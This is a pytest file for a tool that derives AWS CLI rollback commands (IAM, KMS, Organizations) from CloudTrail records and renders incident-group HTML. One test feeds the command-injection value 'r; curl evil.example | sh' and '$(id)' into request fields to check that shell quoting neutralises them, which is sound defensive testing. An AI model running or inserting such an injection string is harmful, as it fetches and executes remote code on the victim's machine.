"""The rollback of a recorded change (`verdict.change.rollback`, kit.diagnose.change_rollback) and a group's
`denied_now` (kit.postmortem.groups): commands built from CloudTrail's requestParameters as AWS records them,
every value shell-quoted (CloudTrail fields are attacker-controlled), and the group block's Roll back line."""

from __future__ import annotations

import shlex

import pandas as pd
import pytest

from kit.diagnose.change_candidates import Candidate
from kit.diagnose.change_rollback import rollback
from kit.postmortem.groups import group_incidents
from kit.postmortem.views import group_block

KEY = "arn:aws:kms:me-central-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"


def _change(name: str, request: dict, region: str = "me-central-1") -> Candidate:
    return Candidate(event_id="e-1", event_name=name, event_time=pd.Timestamp("2026-11-29T10:00:00Z"),
                     principal_arn="arn:aws:iam::123456789012:user/admin", layer="x", region=region,
                     request=request, response={})


@pytest.mark.parametrize("name, request_parameters, before_known, expected", [
    ("CreatePolicyVersion", {"policyArn": "arn:aws:iam::123456789012:policy/p", "setAsDefault": True}, True,
     "aws iam set-default-policy-version --policy-arn arn:aws:iam::123456789012:policy/p --version-id v3"),
    ("AttachRolePolicy", {"roleName": "r", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}, True,
     "aws iam detach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess"),
    ("DetachUserPolicy", {"userName": "u", "policyArn": "arn:aws:iam::123456789012:policy/kms"}, True,
     "aws iam attach-user-policy --user-name u --policy-arn arn:aws:iam::123456789012:policy/kms"),
    ("DisableKey", {"keyId": KEY}, True, f"aws kms enable-key --key-id {KEY}"),
    ("AttachPolicy", {"policyId": "p-abcd1234", "targetId": "ou-ab12-cdef3456"}, True,
     "aws organizations detach-policy --policy-id p-abcd1234 --target-id ou-ab12-cdef3456 (in the organization's "
     "management account)"),
    ("PutKeyPolicy", {"keyId": KEY, "policyName": "default"}, True,
     f"aws kms put-key-policy --key-id {KEY} --policy-name default --policy file://before.json (before.json: the "
     "key policy this call replaced, verdict.change.before)"),
    ("PutRolePolicy", {"roleName": "r", "policyName": "inline"}, True,
     "aws iam put-role-policy --role-name r --policy-name inline --policy-document file://before.json (before.json: "
     "the document this call replaced, verdict.change.before)"),
])
def test_the_rollback_reverses_the_call_from_its_own_parameters(name, request_parameters, before_known, expected):
    assert rollback(_change(name, request_parameters), before_known=before_known, previous_version="v3") == expected


def test_without_the_earlier_state_the_rollback_says_what_to_restore():
    text = rollback(_change("PutKeyPolicy", {"keyId": KEY}), before_known=False)
    assert text.startswith(f"Restore the statement of key {KEY}'s policy") and "not in the evidence" in text
    version = rollback(_change("CreatePolicyVersion", {"policyArn": "arn:aws:iam::1:policy/p"}), before_known=True)
    assert "list-policy-versions" in version and "<that version>" in version
    assert rollback(_change("CreateGrant", {"keyId": KEY}), before_known=True) == ""


def test_hostile_values_are_quoted_for_the_shell():
    hostile = "r; curl evil.example | sh"
    text = rollback(_change("AttachRolePolicy", {"roleName": hostile, "policyArn": "$(id)"}), before_known=True)
    assert shlex.split(text) == ["aws", "iam", "detach-role-policy", "--role-name", hostile, "--policy-arn", "$(id)"]


def _entry(name: str, denied_now: object, undone: dict | None = None) -> dict:
    change = {"event_id": "e-1", "event_name": "PutKeyPolicy", "event_time": "2026-11-29T10:00:00Z",
              "principal_arn": "arn:aws:iam::123456789012:user/terraform", "layer": "key-policy", "summary": "s",
              "rollback": "aws kms put-key-policy --key-id <b>k</b>", "denied_now": denied_now, "undone_by": undone}
    return {"name": name, "status": "ok", "cause": "kms-grant-denied", "denied_by": "key-policy", "instance_id": name,
            "change": change}


UNDONE = {"event_id": "e-2", "event_name": "PutKeyPolicy", "event_time": "2026-12-02T10:06:00Z",
          "principal_arn": "arn:aws:iam::123456789012:user/oncall", "layer": "key-policy"}


def test_a_group_needs_its_rollback_while_any_incident_is_still_denied():
    [group] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", True)])
    assert group["change"]["denied_now"] is True and group["change"]["undone_by"] is None
    html = group_block(group, 1)
    assert "Still needed" in html and "<code>aws kms put-key-policy --key-id &lt;b&gt;k&lt;/b&gt;</code>" in html
    [undone] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", False, UNDONE)])
    assert undone["change"]["denied_now"] is False and undone["change"]["undone_by"] == UNDONE
    html = group_block(undone, 1)
    assert "Not needed now" in html and 'title="arn:aws:iam::123456789012:user/oncall"' in html
    [unknown] = group_incidents([_entry("i-1", False, UNDONE), _entry("i-2", None)])  # a summary from before
    assert unknown["change"]["denied_now"] is None and "needed" not in group_block(unknown, 1)
